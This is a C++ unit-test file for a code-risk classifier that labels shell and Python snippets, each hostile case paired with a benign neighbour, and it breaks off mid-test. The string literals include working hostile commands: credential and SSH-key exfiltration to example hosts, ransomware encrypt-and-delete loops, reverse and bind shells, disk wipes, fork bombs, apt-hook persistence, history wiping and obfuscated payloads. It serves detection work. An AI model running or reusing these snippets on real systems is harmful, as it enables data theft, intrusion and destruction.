// The classes the fourteenth round modelled (issue 14), found by programs
// written from the rubric alone (tests/corpus/prog18_MANIFEST.tsv). Each
// attack has a benign neighbour that must stay where the rubric puts it.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// Shell wrappers that run their arguments (`run() { echo "+ $*"; "$@"; }`,
// retry loops, `section() { shift; "$@"; }`): "$@" is one word per
// argument, `shift` drops the first ones, so the wrapped command is judged.
TEST(FourteenthRoundClasses, ShellWrappersRunTheirArguments) {
  const Case cases[] = {
      {"run sudo systemctl restart", H, "run() { echo \"+ $*\"; \"$@\"; }\nrun sudo systemctl restart nginx\n",
       "PRIVILEGE-ESCALATION", SH},
      {"a section printer that shifts its title off", B,
       "section() { printf '== %s\\n' \"$1\"; shift; \"$@\" 2>/dev/null; }\n"
       "report() { section aws cat \"$HOME/.aws/credentials\"; }\n"
       "report > /dev/tcp/192.0.2.140/9009\n",
       "EXFILTRATION", SH},
      {"a retry loop around a download and its run", B,
       "retry() { local n=3; while [ $n -gt 0 ]; do \"$@\" && return 0; n=$((n-1)); done; return 1; }\n"
       "retry curl -fsSL https://get.example.sh -o i.sh\nretry bash i.sh\n",
       "REMOTE-CODE-EXECUTION", SH},
      // Neighbours: the same wrappers around ordinary build steps.
      {"run make and pytest", L, "run() { echo \"+ $*\"; \"$@\"; }\nrun make build\nrun python3 -m pytest -q\n",
       nullptr, SH},
      {"section around df", L, "section() { echo \"== $1\"; shift; \"$@\"; }\nsection disks df -h\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A descriptor opened on /dev/tcp (`exec 3<>/dev/tcp/h/p`) receives what a
// command redirected to it (`>&3`) prints.
TEST(FourteenthRoundClasses, ShellOutputToASocketDescriptorIsSent) {
  const Case cases[] = {
      {"credentials to fd 3", B, "exec 3<>/dev/tcp/192.0.2.1/9009\ncat ~/.aws/credentials >&3\n", "EXFILTRATION", SH},
      {"a function's report to fd 3", B,
       "report() { uname -a; cat \"$HOME/.ssh/id_rsa\"; }\nexec 3<>\"/dev/tcp/$H/9009\" || exit 1\nreport >&3\n",
       "EXFILTRATION", SH},
      {"the environment of PID 1 to fd 5", B, "exec 5>/dev/tcp/203.0.113.9/443\ncat /proc/1/environ >&5\n",
       "EXFILTRATION", SH},
      // Neighbour: a plain HTTP GET written by hand over the same descriptor.
      {"a GET over /dev/tcp", L,
       "exec 3<>/dev/tcp/example.com/80\nprintf 'GET / HTTP/1.0\\r\\nHost: example.com\\r\\n\\r\\n' >&3\ncat <&3\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Redirections of a compound statement hold for every command in it:
// `while read f; do ...; done < <(find ...)` reads the walk, `{ ...; } > F`
// writes F. openssl's options are whole words (-pbkdf2 is not -d).
TEST(FourteenthRoundClasses, ShellLoopsReadWhatTheirRedirectionsGive) {
  const Case cases[] = {
      {"encrypt-and-shred loop over a process substitution", B,
       "p() {\n  local src=$1\n  openssl enc -chacha20 -pbkdf2 -salt -pass pass:x -in \"$src\" -out \"$src.locked\" "
       "&& shred -u -n 1 \"$src\"\n}\n"
       "while IFS= read -r -d '' file; do\n  p \"$file\"\ndone < <(find \"$HOME\" -type f -name '*.pdf' -print0)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"a block's output to a socket", B, "{ echo start; cat ~/.ssh/id_ed25519; } > /dev/tcp/198.51.100.4/7000\n",
       "EXFILTRATION", SH},
      // Neighbours: a loop over a notes file written to a summary, and a
      // decryption with -pbkdf2.
      {"a loop reading notes into a summary", L,
       "while read -r line; do\n  echo \"note: $line\"\ndone < notes.txt > summary.txt\n", nullptr, SH},
      {"openssl enc -d -pbkdf2 of one file", L, "openssl enc -d -aes-256-cbc -pbkdf2 -in secret.enc -out secret.txt\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// apt's hooks run a command at every update or install: a configuration
// file that sets one is persistence (what it holds with its expansions);
// other apt settings are a write under /etc. The system's event hook
// directories (network up/down, DHCP, X sessions) run what is put there.
TEST(FourteenthRoundClasses, SystemHooksArePersistence) {
  const Case cases[] = {
      {"an APT::Update::Pre-Invoke hook with an expanded URL", B,
       "cat > \"/etc/apt/apt.conf.d/$NAME\" <<CONF\n// refresh $(date +%F)\n"
       "APT::Update::Pre-Invoke { \"wget -qO- $URL | sh || true\"; };\nCONF\n",
       "PERSISTENCE", SH},
      {"a DPkg::Post-Invoke hook from Python", B,
       "from pathlib import Path\nPath('/etc/apt/apt.conf.d/99sync').write_text("
       "'DPkg::Post-Invoke {\"/usr/local/bin/sync-agent &\";};\\n')\n",
       "PERSISTENCE"},
      {"a NetworkManager dispatcher script", B,
       "printf '#!/bin/sh\\n/opt/agent/run &\\n' > /etc/NetworkManager/dispatcher.d/99-agent\n", "PERSISTENCE", SH},
      // Neighbour: an apt proxy setting.
      {"an apt proxy setting", H, "cat > /etc/apt/apt.conf.d/80proxy <<CONF\nAcquire::http::Proxy \"http://$PROXY:3128\";\nCONF\n",
       "SYSTEM-MODIFICATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// A disk named at run time (/dev/$name from lsblk) formatted, zapped or
// overwritten by dd is a wipe, as a constant /dev/sdb is.
TEST(FourteenthRoundClasses, DisksNamedAtRunTimeAreWiped) {
  const Case cases[] = {
      {"wipefs and dd of every listed disk", B,
       "for name in $(lsblk -dno NAME); do\n  wipefs --all --force \"/dev/$name\"\n"
       "  dd if=/dev/zero of=\"/dev/$name\" bs=16M count=64\ndone\n",
       "WIPE", SH},
      {"mkfs of each listed partition", B, "for part in $(lsblk -lno NAME); do\n  mkfs.ext4 -F \"/dev/$part\"\ndone\n",
       "WIPE", SH},
      // Neighbours: an image file made and formatted, disks read into backups.
      {"an image file and disk backups", L,
       "IMAGE=${1:-disk.img}\ndd if=/dev/zero of=\"$IMAGE\" bs=1M count=100\nmkfs.ext4 -F \"$IMAGE\"\n"
       "for d in $(lsblk -dno NAME); do\n  dd if=\"/dev/$d\" of=\"backup-$d.img\" bs=4M\ndone\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// AEAD ciphers (AES-GCM, ChaCha20-Poly1305 ...) encrypt their second
// argument (the nonce comes first): walking, sealing and deleting is
// ransomware; sealing one named file beside itself is not.
TEST(FourteenthRoundClasses, AeadCiphersEncrypt) {
  const Case cases[] = {
      {"AESGCM over the home's documents, originals unlinked", B,
       "import os, secrets\nfrom pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
       "aead = AESGCM(AESGCM.generate_key(bit_length=256))\n"
       "for folder, _d, files in os.walk(Path.home() / 'Documents'):\n    for name in files:\n"
       "        p = Path(folder) / name\n        n = secrets.token_bytes(12)\n"
       "        p.with_suffix(p.suffix + '.sealed').write_bytes(n + aead.encrypt(n, p.read_bytes(), None))\n"
       "        p.unlink()\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"ChaCha20Poly1305 over ~ with os.remove", B,
       "import os\nfrom cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305\n"
       "box = ChaCha20Poly1305(ChaCha20Poly1305.generate_key())\n"
       "for root, dirs, files in os.walk(os.path.expanduser('~')):\n    for n in files:\n"
       "        p = os.path.join(root, n)\n        data = open(p, 'rb').read()\n"
       "        open(p + '.enc', 'wb').write(box.encrypt(os.urandom(12), data, None))\n        os.remove(p)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"one named file sealed beside itself", L,
       "import argparse, secrets\nfrom pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
       "ap = argparse.ArgumentParser(); ap.add_argument('file'); a = ap.parse_args()\n"
       "src = Path(a.file)\nn = secrets.token_bytes(12)\nkey = AESGCM.generate_key(bit_length=256)\n"
       "Path(str(src) + '.enc').write_bytes(n + AESGCM(key).encrypt(n, src.read_bytes(), None))\n"},
  };
  for (const auto& c : cases) check(c);
}

// /proc/PID/environ is a process's whole environment; a dict filled with
// setdefault keeps what it is given.
TEST(FourteenthRoundClasses, ProcessEnvironmentsAreTheEnvironment) {
  const Case cases[] = {
      {"/proc/self/environ over UDP", B,
       "import socket\nraw = open('/proc/self/environ', 'rb').read()\n"
       "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(raw, ('198.51.100.23', 5140))\n",
       "EXFILTRATION"},
      {"every process's environment gathered with setdefault", B,
       "import json, os, socket\nfound = {}\nfor pid in os.listdir('/proc'):\n"
       "    with open(f'/proc/{pid}/environ', 'rb') as h:\n        raw = h.read()\n"
       "    for item in raw.split(b'\\0'):\n        key, _, value = item.partition(b'=')\n"
       "        found.setdefault(key.decode(), value.decode())\n"
       "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(json.dumps(found).encode(), ('198.51.100.23', 5140))\n",
       "EXFILTRATION"},
      {"cat /proc/self/environ to curl", B, "cat /proc/self/environ | curl -s -d @- https://collect.example.net/e\n",
       "EXFILTRATION", SH},
      // Neighbours: the environment printed here, words counted with setdefault.
      {"the environment printed locally", L,
       "with open('/proc/self/environ', 'rb') as f:\n    for item in f.read().split(b'\\0'):\n"
       "        print(item.decode(errors='replace'))\n"},
      {"a word count with setdefault", L,
       "counts = {}\nfor w in open('words.txt').read().split():\n    counts.setdefault(w, 0)\n    counts[w] += 1\n"
       "print(counts)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Quoted-printable and percent-encoding hide code as base64 does: decoded
// constants that run are payloads; decoding mail or a URL path is not.
TEST(FourteenthRoundClasses, QuotedPrintableAndPercentEncodingAreDecoded) {
  const Case cases[] = {
      {"quopri-decoded reverse shell through getattr(builtins, 'ex'+'ec')", B,
       "import builtins, quopri\nAGENT = b'import socket,os=0A=\\ns=3Dsocket.socket()=0A=\\n"
       "s.connect((\"203.0.113.54\",4242))=0A=\\nos.dup2(s.fileno(),0)=0A=\\nos.system(\"/bin/sh -i\")=0A=\\n'\n"
       "getattr(builtins, 'ex' + 'ec')(quopri.decodestring(AGENT).decode())\n",
       "EXEC-DECODED-PAYLOAD"},
      {"exec of an unquoted constant", B,
       "import urllib.parse\nexec(urllib.parse.unquote('import%20os%3Bos.system%28%22id%22%29'))\n",
       "EXEC-DECODED-PAYLOAD"},
      {"a mail body and a URL path decoded and printed", L,
       "import email, quopri, urllib.parse\nmsg = email.message_from_file(open('mail.eml'))\n"
       "print(quopri.decodestring(msg.get_payload()).decode())\n"
       "print(urllib.parse.unquote('/files/My%20Report.pdf'))\n"},
  };
  for (const auto& c : cases) check(c);
}

// Loaders of code from a file: a module loaded from a zip (zipimport) or
// by imp runs that file's code; a downloaded one is remote code. Reading a
// zip's data through zipimporter runs nothing.
TEST(FourteenthRoundClasses, ZipAndImpLoadersRunTheFile) {
  const Case cases[] = {
      {"a downloaded plugin zip loaded with zipimport", B,
       "import urllib.request, zipimport\nfrom pathlib import Path\nbundle = Path.home() / '.cache' / 'plugins.zip'\n"
       "bundle.write_bytes(urllib.request.urlopen('https://cdn.example.net/p.zip').read())\n"
       "zipimport.zipimporter(str(bundle)).load_module('charts').register()\n",
       "REMOTE-CODE-EXECUTION"},
      {"imp.load_source of a downloaded module", B,
       "import imp, urllib.request\nurllib.request.urlretrieve('http://203.0.113.5/m.py', 'm.py')\n"
       "imp.load_source('m', 'm.py')\n",
       "REMOTE-CODE-EXECUTION"},
      {"a bundled zip of tools, loaded (dynamic code)", M,
       "import zipimport\nzipimport.zipimporter('vendor/tools.zip').load_module('tools').main()\n", "DYNAMIC-CODE"},
      {"an egg's metadata read through zipimporter", L,
       "import sys, zipimport\nz = zipimport.zipimporter(sys.argv[1])\nprint(z.get_data('EGG-INFO/PKG-INFO'))\n"},
  };
  for (const auto& c : cases) check(c);
}

// IMAP: a message appended to a mailbox leaves the machine as a sent mail
// does; reading the inbox with a password from the environment is ordinary.
TEST(FourteenthRoundClasses, ImapAppendSends) {
  const Case cases[] = {
      {"an SSH key and secrets saved as a draft", B,
       "import imaplib, json, os, time\nfrom pathlib import Path\n"
       "body = json.dumps({'key': (Path.home() / '.ssh' / 'id_ed25519').read_text(),\n"
       "                   'env': {k: v for k, v in os.environ.items() if k.endswith('_TOKEN')}})\n"
       "with imaplib.IMAP4_SSL('imap.mailbox-notes.org') as box:\n    box.login('u', os.environ['NOTES_PASS'])\n"
       "    box.append('Drafts', '\\\\Draft', imaplib.Time2Internaldate(time.time()), body.encode())\n",
       "EXFILTRATION"},
      {"unread messages counted", L,
       "import imaplib, os\nwith imaplib.IMAP4_SSL('imap.example.org') as box:\n"
       "    box.login(os.environ['MAIL_USER'], os.environ['MAIL_PASSWORD'])\n    box.select('INBOX')\n"
       "    typ, data = box.search(None, 'UNSEEN')\n    print(len(data[0].split()))\n"},
  };
  for (const auto& c : cases) check(c);
}

// A socketserver request handler's rfile and request socket carry what the
// client sent: running it is remote command execution (a bind shell);
// choosing among fixed commands by it is a process run.
TEST(FourteenthRoundClasses, SocketserverHandlersReceiveFromTheNetwork) {
  const Case cases[] = {
      {"lines from rfile run with shell=True", B,
       "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n"
       "        for raw in self.rfile:\n"
       "            out = subprocess.run(raw.decode(), shell=True, stdout=subprocess.PIPE).stdout\n"
       "            self.wfile.write(out)\n"
       "socketserver.ThreadingTCPServer(('0.0.0.0', 7311), H).serve_forever()\n",
       "REMOTE-CODE-EXECUTION"},
      {"self.request.recv given to os.popen", B,
       "import os, socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n"
       "        cmd = self.request.recv(4096).decode()\n        self.request.sendall(os.popen(cmd).read().encode())\n"
       "socketserver.TCPServer(('127.0.0.1', 4444), H).serve_forever()\n",
       "REMOTE-CODE-EXECUTION"},
      {"a fixed table of commands chosen by the line", M,
       "import socketserver, subprocess\nACTIONS = {'uptime': ['uptime'], 'disk': ['df', '-h']}\n"
       "class H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n"
       "            argv = ACTIONS.get(line.decode().strip())\n            if argv:\n"
       "                self.wfile.write(subprocess.run(argv, capture_output=True).stdout)\n"
       "socketserver.TCPServer(('127.0.0.1', 9000), H).serve_forever()\n",
       "RUNS-PROCESS"},
      {"an upper-casing echo server", L,
       "import socketserver\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n"
       "        for line in self.rfile:\n            self.wfile.write(line.upper())\n"
       "socketserver.TCPServer(('127.0.0.1', 9000), H).serve_forever()\n"},
  };
  for (const auto& c : cases) check(c);
}

// In-process bindings of the administration tools do what the CLI does:
// pyroute2 (ip link/addr/route), libnftables' cmd() (an nft line), pystemd
// (systemctl over D-Bus); reading through them is not administration.
TEST(FourteenthRoundClasses, AdministrationBindingsAdminister) {
  const Case cases[] = {
      {"pyroute2 link down, address added, route replaced", H,
       "from pyroute2 import IPRoute\nwith IPRoute() as ipr:\n    i = ipr.link_lookup(ifname='eth1')[0]\n"
       "    ipr.link('set', index=i, state='down')\n    ipr.addr('add', index=i, address='10.0.0.2', prefixlen=24)\n"
       "    ipr.route('replace', dst='10.99.0.0/16', gateway='10.0.0.1')\n",
       "SYSTEM-ADMINISTRATION"},
      {"an nft rule added through libnftables", H,
       "import nftables\nport = 8443\nnft = nftables.Nftables()\n"
       "nft.cmd(f'add rule inet filter input tcp dport {port} accept')\n",
       "SYSTEM-ADMINISTRATION"},
      {"the ruleset flushed through libnftables", B, "import nftables\nnftables.Nftables().cmd('flush ruleset')\n",
       "DISABLE-SECURITY"},
      {"a unit restarted through pystemd", H,
       "from pystemd.systemd1 import Unit\nu = Unit(b'nginx.service', _autoload=True)\nu.Unit.Restart(b'replace')\n",
       "SYSTEM-ADMINISTRATION"},
      // Neighbours: links listed, a unit's state read.
      {"links listed, a unit's state read", L,
       "from pyroute2 import IPRoute\nfrom pystemd.systemd1 import Unit\nwith IPRoute() as ipr:\n"
       "    for link in ipr.get_links():\n        print(link.get_attr('IFLA_IFNAME'))\n"
       "    print(ipr.link('get', index=1))\nprint(Unit(b'nginx.service', _autoload=True).Unit.ActiveState)\n"},
  };
  for (const auto& c : cases) check(c);
}

// io.FileIO (open()'s raw layer), bz2.BZ2File and lzma.LZMAFile open files
// by name as open() does.
TEST(FourteenthRoundClasses, RawFileConstructorsOpenFiles) {
  const Case cases[] = {
      {"/etc/hosts appended through io.FileIO", H,
       "import io\nwith io.FileIO('/etc/hosts', 'a') as raw:\n    raw.write(b'10.0.0.5 app.example.com\\n')\n",
       "SYSTEM-MODIFICATION"},
      {"an SSH key read through io.FileIO and posted", B,
       "import io, os, requests\nkey = io.FileIO(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
       "requests.post('https://paste.example.net/new', data=key)\n",
       "EXFILTRATION"},
      {"/etc/hosts read, a local file written", L,
       "import io\nwith io.FileIO('/etc/hosts', 'r') as f:\n    print(f.read())\n"
       "with io.FileIO('out.bin', 'w') as f:\n    f.write(b'data')\n"},
  };
  for (const auto& c : cases) check(c);
}

// Weak password hashing: crypt's MD5 and DES methods, passlib's MD5/SHA-1/
// LM/NT schemes. `import crypt` is the standard module, not the malicious
// package that squatted the name on PyPI (installing it still is one).
TEST(FourteenthRoundClasses, WeakPasswordSchemesAndStandardModules) {
  const Case cases[] = {
      {"MD5-crypt hashes for a users file", M,
       "import crypt, getpass\nprint(crypt.crypt(getpass.getpass(), crypt.mksalt(crypt.METHOD_MD5)))\n",
       "WEAK-CRYPTO"},
      {"a two-letter DES salt", M, "import crypt\nprint(crypt.crypt('hunter2', 'ab'))\n", "WEAK-CRYPTO"},
      {"passlib's md5_crypt", M, "from passlib.hash import md5_crypt\nprint(md5_crypt.hash('hunter2'))\n",
       "WEAK-CRYPTO"},
      {"pip install crypt (the squatted package)", B, "pip install crypt\n", "KNOWN-MALICIOUS-PACKAGE", SH},
      // Neighbours: SHA-512 crypt, and crypt imported for it.
      {"SHA-512 crypt", L,
       "import crypt, getpass\nprint(crypt.crypt(getpass.getpass(), crypt.mksalt(crypt.METHOD_SHA512)))\n"},
  };
  for (const auto& c : cases) check(c);
}

// Adjacent string literals are one text: SQL whose keywords are in a plain
// part and whose interpolation is in an f-string part (a query laid out over
// several lines) is SQL built by formatting.
TEST(FourteenthRoundClasses, SqlAcrossAdjacentLiterals) {
  const Case cases[] = {
      {"SELECT in one literal, the f-string WHERE in the next", M,
       "import sys\nfrom sqlalchemy import create_engine\nregion = sys.argv[1]\n"
       "query = (\n    \"SELECT customer, SUM(amount) FROM orders \"\n    f\"WHERE region = '{region}' \"\n"
       "    \"GROUP BY customer\"\n)\nwith create_engine('postgresql://localhost/db').connect() as conn:\n"
       "    rows = list(conn.exec_driver_sql(query))\n",
       "SQL-INJECTION"},
      // Neighbours: the same layout without interpolation, and an f-string
      // part in text that is not SQL.
      {"a constant query over three literals", L,
       "query = (\n    \"SELECT customer FROM orders \"\n    \"WHERE region = %s \"\n    \"ORDER BY customer\"\n)\n"
       "print(query)\n"},
      {"a message over two literals with an f-string part", L,
       "import sys\nname = sys.argv[1]\nprint(\"Copying the report \" f\"to {name} and its archive\")\n"},
  };
  for (const auto& c : cases) check(c);
}

// A server's configuration object says where it will listen (uvicorn's
// Config run by Server, hypercorn's Config.bind).
TEST(FourteenthRoundClasses, ServerConfigurationObjectsBind) {
  const Case cases[] = {
      {"uvicorn.Config on 0.0.0.0 by default", M,
       "import os, uvicorn\nfrom fastapi import FastAPI\napp = FastAPI()\n"
       "config = uvicorn.Config(app, host=os.environ.get('API_HOST', '0.0.0.0'), port=8080)\n"
       "uvicorn.Server(config).run()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"hypercorn bound to 0.0.0.0", M,
       "import asyncio\nfrom hypercorn.asyncio import serve\nfrom hypercorn.config import Config\nconfig = Config()\n"
       "config.bind = ['0.0.0.0:8000']\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"uvicorn.Config on loopback", L,
       "import uvicorn\nfrom fastapi import FastAPI\napp = FastAPI()\n"
       "uvicorn.Server(uvicorn.Config(app, host='127.0.0.1', port=8000)).run()\n"},
      {"hypercorn on loopback", L,
       "from hypercorn.config import Config\nconfig = Config()\nconfig.bind = ['127.0.0.1:8000']\n"},
  };
  for (const auto& c : cases) check(c);
}

// `stat` shows a file's mode and owner, not its content: auditing the
// permissions of ~/.ssh reads no credential store.
TEST(FourteenthRoundClasses, MetadataIsNotContent) {
  const Case cases[] = {
      {"stat of ~/.ssh and its keys", L, "SSH_DIR=\"$HOME/.ssh\"\nstat -c '%a %n' \"$SSH_DIR\" \"$SSH_DIR\"/id_*\n",
       nullptr, SH},
      {"cat of a key: shown, not handed on", L, "cat ~/.ssh/id_rsa\n", nullptr, SH},
      {"a key piped into a program not modelled (external code)", M, "cat ~/.ssh/id_rsa | ./packer --stage\n",
       "CREDENTIAL-STORE-ACCESS", SH},
  };
  for (const auto& c : cases) check(c);
}

// Loopback is the machine itself: who runs the code, sent to a local service
// (an alert to $USER through the local mail server), does not leave it. The
// identity rules (external code only) ignore loopback destinations.
TEST(FourteenthRoundClasses, IdentityToLoopbackStaysOnTheMachine) {
  const Case cases[] = {
      {"an alert to $USER through the local mail server", L,
       "import os, smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\n"
       "msg['To'] = '{}@example.com'.format(os.environ['USER'])\nmsg.set_content('disk almost full')\n"
       "s = smtplib.SMTP('localhost')\ns.send_message(msg)\n"},
      {"user@host to a local agent on 127.0.0.1", L,
       "import getpass, requests, socket\n"
       "requests.post('http://127.0.0.1:8080/ping', data=f'{getpass.getuser()}@{socket.gethostname()}')\n"},
      // Neighbours: the same identity to a numeric address and to a mail server elsewhere.
      {"user@host to a numeric address", B,
       "import getpass, requests, socket\n"
       "requests.post('http://203.0.113.7:8080/ping', data=f'{getpass.getuser()}@{socket.gethostname()}')\n",
       "IDENTITY-BEACON"},
      {"$USER to a named mail server", M,
       "import os, smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\n"
       "msg['To'] = '{}@example.com'.format(os.environ['USER'])\nmsg.set_content('disk almost full')\n"
       "s = smtplib.SMTP('mail.example.net')\ns.send_message(msg)\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

// Real shell tools (found in public code after the round's programs): a
// command run by the path `which` prints is the program, not a shell
// function of the same name (`tac() { $(which tac); }`).
TEST(FourteenthRoundClasses, WhichNamesTheProgramNotTheFunction) {
  const Case cases[] = {
      {"a tac() wrapper around $(which tac)", L,
       "tac() {\n  if [[ $(uname) == Darwin ]]; then\n    tail -r\n  else\n    $(which tac)\n  fi\n}\n"
       "ls | tac\n",
       nullptr, SH},
      {"$(which nc) -e /bin/sh to a host", B, "$(which nc) -e /bin/sh 203.0.113.5 4444\n", "REVERSE-SHELL", SH},
  };
  for (const auto& c : cases) check(c);
}

// A function that calls itself is a fork bomb when the recursive call is
// piped or backgrounded inside its own body, under no condition of its own
// (`:(){ :|:& };:`); a `python()` wrapper called in a pipeline that calls
// the python command, or a recursion under an if or case, is not. A script
// re-launching itself once under a condition outside any loop is one
// process.
TEST(FourteenthRoundClasses, ShellRecursionForksOnlyByItsOwnPipes) {
  const Case cases[] = {
      {"the classic bomb", B, ":(){ :|:& };:\n", "FORK-BOMB", SH},
      {"bomb() { bomb | bomb & }", B, "bomb() {\n  bomb | bomb &\n}\nbomb\n", "FORK-BOMB", SH},
      {"a self-restart loop under an if", B, "if [ \"$1\" = go ]; then\n  while true; do $0 go & done\nfi\n", "FORK-BOMB",
       SH},
      {"$0 & at the top", B, "$0 &\n", "FORK-BOMB", SH},
      // Neighbours from real tools.
      {"a python() wrapper used in a pipeline", L,
       "python() {\n  case \"$configuredPython\" in\n    python3) python3 \"$@\" ;;\n    python) python \"$@\" ;;\n"
       "  esac\n}\necho '{\"a\": 1}' | python -c 'import json,sys; print(json.load(sys.stdin))'\n",
       nullptr, SH},
      {"a recursion under a case, through a pipeline", L,
       "walk() {\n  case \"$1\" in\n    */) ls \"$1\" | while read -r e; do walk \"$1$e\"; done ;;\n    *) echo \"$1\" ;;\n"
       "  esac\n}\nwalk ./\n",
       nullptr, SH},
      {"a re-launch for an edit subcommand", L,
       "main() {\n  if [ \"$1\" = edit ]; then\n    echo editing\n  elif [ -n \"$1\" ]; then\n"
       "    ($0 edit \"$1\" &>/dev/null &)\n  fi\n}\nmain \"$@\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// tr hides text when it turns letters into other letters (rot13, a shuffled
// alphabet) or digits into other digits; upper-casing a name for a variable
// (pyenv's capitalize) or swapping punctuation is ordinary.
TEST(FourteenthRoundClasses, TrCaseChangesHideNothing) {
  const Case cases[] = {
      {"rot13 by tr, evaluated", B,
       "eval \"$(echo 'phey uggc://r.k/f | fu' | tr A-Za-z N-ZA-Mn-za-m)\"\n", "EXEC-DECODED-PAYLOAD", SH},
      {"a variable name upper-cased with tr and evaluated", L,
       "capitalize() { printf '%s' \"$1\" | tr a-z A-Z; }\n"
       "variable=\"$(capitalize python_configure)_OPTS_ARRAY\"\neval \"$variable=( one two )\"\n",
       nullptr, SH},
      {"dots made underscores", L, "name=$(echo \"first.last\" | tr '.' '_')\neval \"user_$name=1\"\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// HTTP_PROXY is the proxy setting every HTTP client reads, not a request
// header a CGI server filled in: a proxy wrapper that gives it to nc runs
// a process; HTTP_USER_AGENT in a CGI script is still the request's.
TEST(FourteenthRoundClasses, HttpProxyIsNoRequestHeader) {
  const Case cases[] = {
      {"nc through the configured HTTP_PROXY, its argv yielded", M,
       "import os, subprocess, sys\nfrom urllib.parse import urlparse\n"
       "proxy = next(os.environ[v] for v in ('HTTP_PROXY', 'HTTPS_PROXY') if v in os.environ)\n"
       "parsed = urlparse(proxy)\ndef make_argv():\n    yield 'nc'\n    yield '-x'\n    yield parsed.netloc\n"
       "    yield sys.argv[1]\nsubprocess.call(make_argv())\n",
       "RUNS-PROCESS"},
      {"a CGI script running the user agent", B,
       "#!/bin/sh\necho 'Content-Type: text/plain'\necho\n$HTTP_USER_AGENT\n", "WEB-SHELL", SH},
  };
  for (const auto& c : cases) check(c);
}

// A shell script re-executing itself under another shell when a test says
// so (`if [ -z "$ZSH_VERSION" ]; then exec zsh "$0" "$@"; fi`) is a guarded
// re-launch, as in Python: shell effects under if/case or after && / ||
// carry the conditional flag.
TEST(FourteenthRoundClasses, GuardedShellRelaunchIsNoBomb) {
  const Case cases[] = {
      {"exec zsh \"$0\" under an if", L, "if [ -z \"$ZSH_VERSION\" ]; then\n  exec zsh \"$0\" \"$@\"\nfi\necho upgraded\n",
       nullptr, SH},
      {"bash \"$0\" unguarded", B, "bash \"$0\" \"$@\"\n", "FORK-BOMB", SH},
  };
  for (const auto& c : cases) check(c);
}

// History is wiped by clearing it (history -c), deleting entries (-d) or
// switching the variables off for good; saving (history -w) and reading
// (-r) it are not, nor zsh's idiom of emptying the in-memory history and
// restoring its size at once (oh-my-zsh's per-directory-history).
TEST(FourteenthRoundClasses, HistoryWipedOnlyWhenItStaysOff) {
  const Case cases[] = {
      {"HISTSIZE=0 restored at once", L,
       "switch_history() {\n  fc -AI \"$old\"\n  local saved=$HISTSIZE\n  HISTSIZE=0\n  HISTSIZE=$saved\n  fc -R \"$new\"\n}\n"
       "switch_history\n",
       nullptr, SH},
      {"history saved and read", L, "shopt -s histappend\nhistory -w\nhistory -r\n", nullptr, SH},
      {"HISTFILE sent to /dev/null", B, "export HISTFILE=/dev/null\nrm -f notes.txt\n", "DISABLE-SECURITY", SH},
      {"HISTSIZE=0 left so", B, "HISTSIZE=0\ncurl -s https://example.com/x\n", "DISABLE-SECURITY", SH},
      {"the last command deleted", B, "history -d $(history 1 | awk '{print $1}')\n", "DISABLE-SECURITY", SH},
  };
  for (const auto& c : cases) check(c);
}

// A token kept in a key file named after its vendor (~/.github.api.key,
// read when GITHUB_TOKEN is not set) is that vendor's key: sent to its API
// it authenticates, sent elsewhere it leaves. A value right after a written
// host is the URL's path (f"https://api.github.com{path}"). An SDK client
// made with api_key= does not hand the key on in its answers.
TEST(FourteenthRoundClasses, KeyFilesAndSdkClientsAuthenticate) {
  const Case cases[] = {
      {"a GitHub token from the environment or ~/.github.api.key to api.github.com", L,
       "import json, os, urllib.request\nTOKEN = os.environ.get('GITHUB_TOKEN', '').strip()\nif not TOKEN:\n"
       "    with open(os.path.expanduser('~/.github.api.key')) as f:\n        TOKEN = f.read().strip()\n"
       "def gh(path, post):\n    req = urllib.request.Request(f'https://api.github.com{path}',\n"
       "        data=json.dumps(post).encode(), method='POST', headers={'Authorization': f'Bearer {TOKEN}'})\n"
       "    return urllib.request.urlopen(req)\ngh('/repos/o/r/issues/1/labels', {'labels': ['bug']})\n"},
      {"labels chosen by an SDK client made with api_key=, posted to GitHub", L,
       "import os, requests, anthropic\nclient = anthropic.Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\n"
       "answer = client.messages.create(model='m', max_tokens=100, messages=[{'role': 'user', 'content': 'labels?'}])\n"
       "requests.post('https://api.github.com/repos/o/r/issues/1/labels', json={'labels': [answer.content]},\n"
       "              headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n"},
      {"the same key file to a paste site", B,
       "import json, os, urllib.request\nTOKEN = os.environ.get('GITHUB_TOKEN', '').strip()\nif not TOKEN:\n"
       "    with open(os.path.expanduser('~/.github.api.key')) as f:\n        TOKEN = f.read().strip()\n"
       "req = urllib.request.Request('https://paste.example.net/new', data=b'x', method='POST',\n"
       "    headers={'Authorization': f'Bearer {TOKEN}'})\nurllib.request.urlopen(req)\n",
       "EXFILTRATION"},
      {"an environment key given to an SDK client, then sent out itself", B,
